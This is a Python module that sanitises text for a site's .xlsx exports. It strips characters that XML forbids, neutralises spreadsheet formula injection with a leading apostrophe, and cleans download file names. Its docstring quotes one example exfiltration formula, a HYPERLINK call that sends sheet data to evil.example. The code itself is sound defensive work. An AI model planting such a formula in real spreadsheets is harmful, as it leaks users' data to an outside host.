"""The one cell-sanitising function every .xlsx writer of the site goes through.

Stored text (a record's note, a unit's name, a problem type pushed by the API) reaches the
exports as it was typed. Two things in it would hurt the reader of a workbook:

- a text beginning with ``=``, ``+``, ``-`` or ``@`` (or with a tab or a carriage return,
  which spreadsheet programs skip before looking for one) may be taken as a formula by the
  program that opens it: ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would send the
  sheet's data away. Such a text is written with a leading apostrophe, so it stays text;
- control characters XML 1.0 forbids (``\\x00``-``\\x08``, ``\\x0b``, ``\\x0c``,
  ``\\x0e``-``\\x1f``, and the non-characters ``\\ufffe``/``\\uffff``) and lone surrogates
  cannot be written at all (openpyxl raises ``IllegalCharacterError``): they are removed.

Numbers, dates and booleans are left as they are (a negative number stays a number). The
readers undo the apostrophe (``unquoted``), so an exported organisation or framework
re-imports with the texts it had.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# openpyxl's ILLEGAL_CHARACTERS_RE, plus what XML 1.0 or UTF-8 cannot carry either.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
# What makes a spreadsheet program read a text as a formula.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# A text made of apostrophes then a formula lead: apostrophes the writer adds (one) or the
# text had (the writer adds one more, so ``unquoted`` gives the text back exactly).
_QUOTED = re.compile(r"^'+[=+\-@\t\r]")


def safe_text(value: str) -> str:
    """``value`` without the characters XML forbids, with a leading apostrophe when it would
    otherwise be read as a formula (or already starts with apostrophes before a formula
    lead, so ``unquoted`` can restore it exactly)."""
    value = ILLEGAL_CHARACTERS.sub("", value)
    if value.startswith(FORMULA_LEADS) or _QUOTED.match(value):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """A value as every .xlsx writer must write it: text through ``safe_text``, anything
    else (numbers, dates, booleans, None) unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """``safe_cell`` of each value of a row."""
    return [safe_cell(value) for value in values]


def unquoted(value: str) -> str:
    """The text ``safe_text`` was given: one apostrophe fewer before a formula lead
    (readers of our own exports call it; control characters removed stay removed)."""
    if _QUOTED.match(value):
        return value[1:]
    return value


def safe_filename(name: str, *, default: str = "export.xlsx") -> str:
    """A download's file name made safe for a header: no control characters, no quotes,
    no path separators (the name may hold stored text such as a framework's code)."""
    cleaned = re.sub(r"[\x00-\x1f\x7f\"\\/;]", "_", ILLEGAL_CHARACTERS.sub("", name)).strip()
    return cleaned or default
